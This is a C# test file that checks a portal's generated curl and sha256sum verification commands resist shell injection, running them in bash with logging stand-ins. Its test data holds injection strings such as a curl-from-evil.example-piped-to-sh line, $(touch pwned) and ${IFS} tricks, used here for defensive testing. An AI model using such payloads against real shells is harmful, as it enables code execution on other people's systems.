using System.Diagnostics;
using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using Portal.Domain;
using Portal.Tests.Infrastructure;
using Portal.Tests.Web.Api;
using Portal.Web.Features.Shell;
using Rest = Portal.Tests.Web.Api.Api;

namespace Portal.Tests.Web;

/// <summary>
/// The copy-paste commands, run for real: bash in an empty folder, with logging stand-ins for curl, sha256sum
/// and shasum first on PATH (the real tools stay reachable after them, so an injected <c>touch</c> or
/// <c>curl … | sh</c> would run and show). Nothing but the stand-ins may run, with exactly the intended arguments.
/// </summary>
public sealed partial class ShellCommandTests(PortalFactory portal) : IClassFixture<PortalFactory>
{
    private const string Sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

    public static TheoryData<string> HostileText =>
    [
        "x'; curl evil.example|sh; echo '",
        "$(touch pwned)",
        "`touch pwned`",
        "a\nb; touch pwned",
        "\"; touch pwned; \"",
        "\\'; touch pwned #",
        "${IFS}touch${IFS}pwned",
        "* ?[a] ~ !! & | > pwned < ; #",
        "-rf --",
        "ütf-8 ✓ 名前",
    ];

    [Theory]
    [MemberData(nameof(HostileText))]
    public async Task Quote_gives_bash_back_exactly_the_text(string text)
    {
        var run = await RunAsync($"curl {ShellCommands.Quote(text)}");

        Assert.Equal([["curl", text]], run.Calls);
        Assert.Empty(run.Stray);
    }

    [Theory]
    [MemberData(nameof(HostileText))]
    public async Task An_artifact_command_with_a_hostile_file_name_downloads_and_checks_that_name_only(string name)
    {
        var url = "https://example.org/releases/" + Uri.EscapeDataString(name);
        var artifact = new Artifact("linux-amd64", url, Sha256Digest.Parse(Sha), 10);
        var file = ShellCommands.LocalFileName(artifact.FileName, "artifact");

        var run = await RunAsync(ShellCommands.VerifyArtifact(artifact));

        Assert.DoesNotContain('\n', file);
        Assert.Equal([["curl", "-fLo", file, url], ["sha256sum", "-c"]], run.Calls);
        Assert.Equal($"{Sha}  {file}\n", run.Stdin);
        Assert.Empty(run.Stray);
    }

    [Theory]
    [InlineData("https://example.org/a.tar.gz?x=$(touch pwned)&y=`touch pwned`")]
    [InlineData("https://example.org/x';touch pwned;'.tar.gz")]
    [InlineData("https://example.org/a.tar.gz#'$(touch pwned)'")]
    public async Task A_hostile_url_is_one_argument_to_curl(string url)
    {
        var artifact = new Artifact("linux-amd64", url, Sha256Digest.Parse(Sha), 10);

        var run = await RunAsync(ShellCommands.VerifyArtifact(artifact));

        Assert.Equal(["curl", "-fLo", ShellCommands.LocalFileName(artifact.FileName, "artifact"), url], run.Calls[0]);
        Assert.Equal(2, run.Calls.Count);
        Assert.Empty(run.Stray);
    }

    [Theory]
    [InlineData("darwin-arm64")]
    [InlineData("macos-universal")]
    [InlineData("Darwin-amd64")]
    public async Task MacOS_artifacts_are_checked_with_shasum(string platform)
    {
        var artifact = new Artifact(platform, "https://example.org/node.tar.gz", Sha256Digest.Parse(Sha), 10);

        var command = ShellCommands.VerifyArtifact(artifact);
        var run = await RunAsync(command);

        Assert.Contains("| shasum -a 256 -c", command, StringComparison.Ordinal);
        Assert.Equal([["curl", "-fLo", "node.tar.gz", "https://example.org/node.tar.gz"], ["shasum", "-a", "256", "-c"]], run.Calls);
        Assert.Equal($"{Sha}  node.tar.gz\n", run.Stdin);
    }

    [Theory]
    [MemberData(nameof(HostileText))]
    public async Task A_snapshot_check_with_a_hostile_file_name_checks_that_name_only(string name)
    {
        var run = await RunAsync(ShellCommands.VerifySnapshot(Sha256Digest.Parse(Sha), name));

        Assert.Equal([["sha256sum", "-c"]], run.Calls);
        Assert.Equal($"{Sha}  {ShellCommands.LocalFileName(name, "snapshot")}\n", run.Stdin);
        Assert.Empty(run.Stray);
    }

    [Theory]
    [InlineData("..", "artifact")]
    [InlineData(".", "artifact")]
    [InlineData("-", "./-")]
    [InlineData("-o evil", "./-o evil")]
    [InlineData("a\r\nb", "a__b")]
    public void Local_file_names_are_never_special(string name, string expected) =>
        Assert.Equal(expected, ShellCommands.LocalFileName(name, "artifact"));

    /// <summary>The incident page's own rendering of a published release with a hostile file name, copied as a watcher would.</summary>
    [Fact]
    public async Task The_command_the_public_page_shows_for_a_hostile_artifact_runs_only_the_stand_ins()
    {
        var scenario = await ApiScenario.CreateAsync(portal, count: 2);
        var url = "https://example.org/" + Uri.EscapeDataString("x'; curl evil.example|sh; echo '$(touch pwned)");
        var draft = await Rest.OkAsync(await scenario.Admin.PostAsync(Rest.Path($"{scenario.Base}/releases"), Rest.Json(new
        {
            version = "v9",
            notes = "n",
            artifacts = new[]
            {
                new { platform = "linux-amd64", url, sha256 = Sha, sizeBytes = 10L },
                new { platform = "darwin-arm64", url = url + "-mac", sha256 = Sha, sizeBytes = 10L },
            },
        })), HttpStatusCode.Created);
        await Rest.OkAsync(await scenario.Admin.PostAsync(Rest.Path($"/api/v1/releases/{draft.GetProperty("id").GetGuid()}/publish"), null));

        var html = await portal.CreateHttpsClient().GetStringAsync(Rest.Path($"/status/{scenario.IncidentId}"));
        var commands = VerifyCommand().Matches(html).Select(m => WebUtility.HtmlDecode(m.Groups[1].Value)).ToList();

        Assert.Equal(2, commands.Count);
        var linux = await RunAsync(commands[0]);
        Assert.Equal([["curl", "-fLo", "x'; curl evil.example|sh; echo '$(touch pwned)", url], ["sha256sum", "-c"]], linux.Calls);
        Assert.Empty(linux.Stray);
        var mac = await RunAsync(commands[1]);
        Assert.Equal([["curl", "-fLo", "x'; curl evil.example|sh; echo '$(touch pwned)-mac", url + "-mac"], ["shasum", "-a", "256", "-c"]], mac.Calls);
        Assert.Empty(mac.Stray);
    }

    private sealed record Run(List<string[]> Calls, string Stdin, string[] Stray);

    /// <summary>Runs <paramref name="command"/> with <c>bash -c</c> in an empty folder; logs live elsewhere.</summary>
    private static async Task<Run> RunAsync(string command)
    {
        var root = Directory.CreateTempSubdirectory("portal-shell-");
        try
        {
            var work = root.CreateSubdirectory("work");
            var bin = root.CreateSubdirectory("bin");
            var log = root.CreateSubdirectory("log");
            const string standIn = """
                #!/bin/sh
                printf '%s\0' "${0##*/}" "$@" >> "$STANDIN_LOG/calls"
                printf '\036' >> "$STANDIN_LOG/calls"
                case "${0##*/}" in sha256sum|shasum) cat >> "$STANDIN_LOG/stdin" ;; esac
                """;
            foreach (var tool in new[] { "curl", "sha256sum", "shasum" })
            {
                var path = Path.Combine(bin.FullName, tool);
                await File.WriteAllTextAsync(path, standIn.ReplaceLineEndings("\n") + "\n");
                if (!OperatingSystem.IsWindows())
                {
                    File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
                }
            }

            var start = new ProcessStartInfo("bash") { WorkingDirectory = work.FullName, RedirectStandardError = true, RedirectStandardOutput = true };
            start.ArgumentList.Add("-c");
            start.ArgumentList.Add(command);
            start.Environment["PATH"] = bin.FullName + ":" + Environment.GetEnvironmentVariable("PATH");
            start.Environment["STANDIN_LOG"] = log.FullName;
            using var process = Process.Start(start)!;
            var stderr = process.StandardError.ReadToEndAsync();
            await process.StandardOutput.ReadToEndAsync();
            await process.WaitForExitAsync();
            Assert.True(process.ExitCode == 0, $"bash exited {process.ExitCode}: {await stderr}\n{command}");

            var callsFile = Path.Combine(log.FullName, "calls");
            var calls = File.Exists(callsFile)
                ? (await File.ReadAllTextAsync(callsFile, Encoding.UTF8)).Split('\u001e', StringSplitOptions.RemoveEmptyEntries)
                    .Select(c => c.Split('\0')[..^1]).ToList()
                : [];
            var stdinFile = Path.Combine(log.FullName, "stdin");
            var stdin = File.Exists(stdinFile) ? await File.ReadAllTextAsync(stdinFile, Encoding.UTF8) : "";
            var stray = root.EnumerateFileSystemInfos("*", SearchOption.AllDirectories)
                .Select(f => Path.GetRelativePath(root.FullName, f.FullName))
                .Where(p => p is not ("work" or "bin" or "log") && !p.StartsWith("bin/", StringComparison.Ordinal) && p is not ("log/calls" or "log/stdin"))
                .ToArray();
            return new Run(calls, stdin, stray);
        }
        finally
        {
            root.Delete(recursive: true);
        }
    }

    [GeneratedRegex("class=\"[^\"]*verify-command\"><code>(.*?)</code>", RegexOptions.Singleline)]
    private static partial Regex VerifyCommand();
}
